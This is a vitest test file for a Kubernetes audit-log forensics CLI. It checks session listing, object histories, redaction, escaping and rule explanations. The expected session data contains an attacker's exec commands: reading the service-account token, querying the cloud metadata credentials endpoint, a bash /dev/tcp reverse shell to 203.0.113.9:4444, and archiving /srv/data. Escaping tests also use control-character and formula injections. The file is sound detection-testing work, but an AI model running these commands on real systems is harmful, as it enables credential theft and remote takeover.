import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { displayWidth } from '../../src/outputs/table/width.ts';
import { eventLine, folder as folderOf } from '../cli/events.ts';
import { runCli } from '../cli/run-cli.ts';

const EXEC = 'samples/exec-session.log';

async function run(...args: string[]) {
  return runCli({ args: [...args, '--quiet'] });
}

function json(text: string): Record<string, unknown>[] {
  return text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

describe('activity', () => {
  it('lists each request once, whatever its stages', async () => {
    const { stdout, code } = await run('activity', EXEC);
    expect(code).toBe(0);
    expect(json(stdout)).toHaveLength(7);
  });

  it('hides noise unless asked, and counts it', async () => {
    const quiet = await runCli({ args: ['activity', 'samples/quiet-cluster.log'] });
    const all = await run('activity', 'samples/quiet-cluster.log', '--noise');
    expect(json(quiet.stdout).length).toBeLessThan(json(all.stdout).length);
    expect(quiet.stderr).toMatch(/hidden: .*\d+ controllers.*--noise/s);
  });

  it.each([
    [['--failed-only'], 1],
    [['--name', 'web-*'], 5],
    [['--source-ip', '198.51.100.*'], 7],
    [['--source-ip', '203.0.113.1'], 0],
    [['--user-agent', 'kubectl*', '--verb', 'list'], 1],
    [['--where', 'ka.target.subresource = exec'], 5],
  ])('%j leaves %d requests', async (args, count) => {
    const { stdout } = await run('activity', EXEC, '-f', 'csv', ...args);
    expect(stdout.trim().split('\r\n')).toHaveLength(count + 1);
  });

  it.each(['table', 'text', 'json', 'ndjson', 'csv'])('has format %s', async (format) => {
    for (const args of [[], ['--by', 'user'], ['--by', 'code']]) {
      const { stdout, code } = await run('activity', EXEC, '-f', format, ...args);
      expect(code).toBe(0);
      expect(stdout).toContain(
        args.length === 2 && args[1] === 'code' ? '403' : 'mallory@example.com',
      );
    }
  });

  it('refuses formats that are for findings', async () => {
    const { code, stderr } = await runCli({ args: ['activity', EXEC, '-f', 'sarif'] });
    expect([code, stderr]).toEqual([
      2,
      "k8s-audit: --format 'sarif' is not valid. Allowed values are text, table, json, ndjson, csv, markdown, ecs, ocsf, parquet.\n",
    ]);
  });

  it.each([60, 80, 160])('keeps every table within %d columns', async (columns) => {
    for (const args of [[], ['--by', 'user'], ['--by', 'user-agent']]) {
      const { stdout } = await runCli({
        args: ['activity', 'samples', '-q', ...args],
        tty: true,
        columns,
      });
      for (const line of stdout.split('\n')) {
        expect(displayWidth(line.replace(/\p{Cc}\[[\d;]+m/gu, ''))).toBeLessThanOrEqual(columns);
      }
    }
  });

  it('escapes what a log puts into names', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'activity-')), 'a.log');
    const hostile = {
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      auditID: 'x',
      stage: 'ResponseComplete',
      verb: 'get',
      user: { username: 'a\u001b[31m\u202e' },
      objectRef: { resource: 'pods', name: '=1+1' },
      userAgent: '\u0007',
      stageTimestamp: '2026-03-01T10:00:00Z',
      responseStatus: { code: 200 },
    };
    writeFileSync(file, `${JSON.stringify(hostile)}\n`);
    for (const command of [
      ['activity', file],
      ['activity', 'identity', 'a*', file],
      ['activity', 'object', 'pod/=1+1', file],
      ['show', 'x', file],
    ]) {
      const { stdout } = await run(...command, '-f', 'text', '--color', 'never');
      expect(stdout).not.toMatch(/\p{Cf}|(?!\n)\p{Cc}/u);
    }
  });
});

describe('activity sessions', () => {
  it('tells who ran what, where, and for how long', async () => {
    const sessions = json((await run('activity', 'sessions', EXEC)).stdout);
    expect(sessions.map((each) => [each['kind'], each['command'], each['result']])).toEqual([
      ['exec', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], 'allowed'],
      [
        'exec',
        ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
        'allowed',
      ],
      ['exec', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], 'allowed'],
      ['exec', ['tar', 'cf', '-', '/srv/data'], 'allowed'],
      ['port-forward', [], 'allowed'],
      ['exec', ['sh'], 'denied'],
    ]);
    expect(sessions[2]!['duration_seconds']).toBeCloseTo(639.991);
  });

  it('takes options behind its name for its own', async () => {
    const { stdout } = await run('activity', 'sessions', EXEC, '-f', 'csv');
    expect(stdout).toMatch(/^start,kind,user/);
  });
});

describe('activity identity', () => {
  it('sums up one user', async () => {
    const { stdout } = await run(
      'activity',
      'identity',
      'mallory@example.com',
      'samples/secret-dump.log',
      EXEC,
      '-f',
      'json',
    );
    const page = JSON.parse(stdout) as Record<string, unknown>;
    expect(page['results']).toEqual([
      { value: 'allowed', count: 7 },
      { value: 'denied', count: 1 },
    ]);
    expect(page['session_count']).toBe(6);
    expect(page['secrets_read']).toEqual([{ value: 'all of the cluster (list)', count: 1 }]);
  });

  it('says so when there is nothing', async () => {
    expect((await run('activity', 'identity', 'nobody', EXEC)).stdout).toContain('none');
  });
});

describe('activity object', () => {
  it('counts sessions apart from changes', async () => {
    const args = ['activity', 'object', 'shop/pods/web-6f9c7d5b8c-r4m2t', EXEC];
    expect((await runCli({ args })).stderr).toContain('\n0 changes, 5 sessions\n');
    const { stdout } = await runCli({ args: [...args, '-f', 'json'] });
    expect(stdout).toContain('"summary":{"changes":0,"refused":0,"sessions":5,');
  });

  it('shows the lines that a change added', async () => {
    const { stdout } = await run(
      'activity',
      'object',
      'configmap/aws-auth',
      'samples/aws-auth.log',
      '-f',
      'text',
    );
    expect(stdout).toContain('+   - system:masters');
    expect(stdout).toContain('mallory@example.com  patch  allowed 200');
  });

  it('has the changes in CSV', async () => {
    const object = ['activity', 'object', 'configmap/aws-auth', 'samples/aws-auth.log'];
    const { stdout } = await run(...object, '-f', 'csv');
    expect(stdout).toContain('~ data.mapRoles');
    expect(stdout).toContain('+   - system:masters');
    expect(stdout).not.toContain('[object');
  });

  it('tells of one copy, and of one write of the status, as of one', async () => {
    const status = eventLine({
      auditID: 'b',
      verb: 'patch',
      objectRef: { resource: 'pods', namespace: 'shop', name: 'web', subresource: 'status' },
    });
    const log = [eventLine(), eventLine(), status].join('\n');
    const file = join(folderOf({ 'a.log': log }), 'a.log');
    const { stderr } = await runCli({ args: ['activity', 'object', 'shop/pod/web', file] });
    expect(stderr).toContain('\n1 copy of a request left out (same audit ID and time)\n');
    expect(stderr).toContain('\n1 write of its status left out (--noise shows them)\n');
  });

  it('counts what was refused apart', async () => {
    const write = (auditID: string, code: number) =>
      eventLine({ auditID, verb: 'update', responseStatus: { code } });
    const log = [write('a', 200), write('b', 403), write('c', 409)].join('\n');
    const file = join(folderOf({ 'a.log': log }), 'a.log');
    const args = ['activity', 'object', 'shop/pod/web', file, '-f', 'json'];
    const { stdout, stderr } = await runCli({ args });
    expect(stderr).toContain('1 change, 2 refused or failed');
    expect(JSON.parse(stdout)).toMatchObject({ summary: { changes: 1, refused: 2 } });
  });

  it('names other objects by the resource that the log has', async () => {
    const file = join(folderOf({ 'a.log': eventLine() }), 'a.log');
    for (const kind of ['po', 'pods', 'Pod', 'pod']) {
      const { stderr } = await runCli({ args: ['activity', 'object', `shop/${kind}/WEB`, file] });
      expect(stderr).toContain('the log has pods: shop/web');
    }
  });

  it('refuses what names no object', async () => {
    const { code, stderr } = await run('activity', 'object', 'web', EXEC);
    expect(code).toBe(2);
    expect(stderr).toContain('[namespace/]kind/name');
  });
});

describe('show and explain', () => {
  it('shows the request, the rules that matched, and the neighbours', async () => {
    const { stdout, code } = await run('show', '1f3c42b2', EXEC);
    expect(code).toBe(0);
    expect(stdout).toContain('Exec Reads Credentials');
    expect(stdout).toContain('kx.command.line contains');
    expect(stdout).toContain('portforward');
  });

  it('is JSON on demand', async () => {
    const { stdout } = await run('show', '1f3c42b2', EXEC, '-f', 'json');
    const page = JSON.parse(stdout) as { events: unknown[]; findings: { rule: string }[] };
    expect(page.events).toHaveLength(2);
    expect(page.findings.map(({ rule }) => rule)).toContain('Attach/Exec Pod');
  });

  it('redacts what is not changed in the history of an object, too', async () => {
    const file = join(folderOf(), 'client.log');
    writeFileSync(
      file,
      eventLine({ verb: 'delete', userAgent: 'tool (https://me:hunter22@example.com/)' }),
    );
    for (const format of ['table', 'csv', 'json', 'ndjson']) {
      const args = ['activity', 'object', 'shop/pods/web', file, '-f', format];
      expect((await run(...args)).stdout).not.toContain('hunter22');
      expect((await run(...args)).stdout).toMatch(/allowed|deleted/);
    }
    const all = ['activity', 'object', 'shop/pods/web', file, '-f', 'json', '--show-secrets'];
    expect((await run(...all)).stdout).toContain('hunter22');
  });

  it('redacts secrets in events unless asked', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'show-')), 'a.log');
    const secret = {
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      auditID: 'abc',
      stage: 'ResponseComplete',
      verb: 'create',
      objectRef: { resource: 'secrets' },
      requestObject: { kind: 'Secret', data: { k: 'aHVudGVyMg==' } },
      stageTimestamp: '2026-03-01T10:00:00Z',
    };
    writeFileSync(file, `${JSON.stringify(secret)}\n`);
    for (const format of ['text', 'json']) {
      expect((await run('show', 'abc', file, '-f', format)).stdout).not.toContain('aHVudGVyMg');
      expect((await run('show', 'abc', file, '-f', format, '--show-secrets')).stdout).toContain(
        'aHVudGVyMg',
      );
    }
  });

  it.each([
    [['show', 'nothing', EXEC], "has the audit ID 'nothing'"],
    [['show', '', EXEC], 'several audit IDs'],
    [['explain', '1f3c42b2', EXEC], 'name the rule'],
    [['explain', '1f3c42b2', EXEC, '--rule', 'Nope'], "no rule is called 'Nope'"],
  ])('%j fails clearly', async (args, message) => {
    const { code, stderr } = await run(...args);
    expect(code).toBe(2);
    expect(stderr).toContain(message);
  });

  it('tells why no request is found where nothing or not all could be read', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'show-'));
    const [text, part] = [join(folder, 'a.txt'), join(folder, 'b.log')];
    writeFileSync(text, 'hello world\n');
    writeFileSync(part, `${readFileSync(EXEC, 'utf8')}{"kind":"Event","auditID":"cut`);
    for (const command of [['show'], ['explain', '--rule', 'Attach/Exec Pod']]) {
      const [name, ...rest] = command as [string, ...string[]];
      const foreign = await run(name, 'x', text, ...rest);
      expect([foreign.code, foreign.stderr]).toEqual([
        2,
        expect.stringContaining('no audit event in the input; it looks like text without JSON'),
      ]);
      const partly = await run(name, 'cut', part, ...rest);
      expect([partly.code, partly.stderr]).toEqual([
        2,
        expect.stringContaining(
          `(not read: 1 JSON that ends in the middle of a value, first at ${part}:13)`,
        ),
      ]);
    }
    const missing = await runCli({ args: ['doctor', join(folder, 'none.log')] });
    const line = `k8s-audit: ${join(folder, 'none.log')}: no such file or directory\n`;
    expect(missing.stderr).toBe(line);
  });

  it('explains why a rule did not match', async () => {
    const { stdout } = await run('explain', '1f3c42b2', EXEC, '--rule', 'Create Privileged Pod');
    expect(stdout).toContain('Create Privileged Pod: does not match');
    expect(stdout).toContain('✗ not ka.target.subresource exists  ← exec');
  });
});

describe('scan', () => {
  it('tells of rows that are not shown, and gives programs all', async () => {
    const lines = Array.from({ length: 60 }, (_, i) =>
      eventLine({ auditID: `a${i}`, verb: 'delete', user: { username: `u${i}` } }),
    );
    const file = join(folderOf({ 'a.log': lines.join('\n') }), 'a.log');
    const rule =
      '- {rule: Any, desc: d, condition: ka.verb = delete, output: o, priority: INFO, source: k8s_audit}';
    const rules = join(folderOf({ 'r.yaml': rule }), 'r.yaml');
    const args = ['scan', file, '--no-default-rules', '-r', rules, '--group-by', 'user'];
    const table = await runCli({ args: [...args, '-f', 'table'] });
    expect(table.stdout.match(/^u\d/gm)).toHaveLength(50);
    expect(table.stderr).toContain('10 more rows not shown (--limit 0 shows all)');
    const all = await runCli({ args: [...args, '-f', 'table', '--limit', '0'] });
    expect(all.stdout.match(/^u\d/gm)).toHaveLength(60);
    expect(all.stderr).not.toContain('not shown');
    const csv = await runCli({ args: [...args, '-f', 'csv'] });
    expect(csv.stdout.match(/^u\d/gm)).toHaveLength(60);
  });

  it('groups findings', async () => {
    const { stdout } = await run('scan', EXEC, '--group-by', 'user');
    expect(json(stdout)[0]).toMatchObject({
      user: 'mallory@example.com',
      worst_priority: 'Critical',
    });
  });

  it('refuses to group where there are no rows', async () => {
    const { code, stderr } = await run('scan', EXEC, '--group-by', 'user', '-f', 'sarif');
    expect([code, stderr]).toEqual([
      2,
      'k8s-audit: --group-by has no sarif format: use text, table, json, ndjson, csv, markdown\n',
    ]);
  });

  it('attaches events with --raw', async () => {
    const [first] = json((await run('scan', EXEC, '--raw')).stdout);
    expect((first!['k8s_audit'] as { event: { kind: string } }).event.kind).toBe('Event');
  });
});
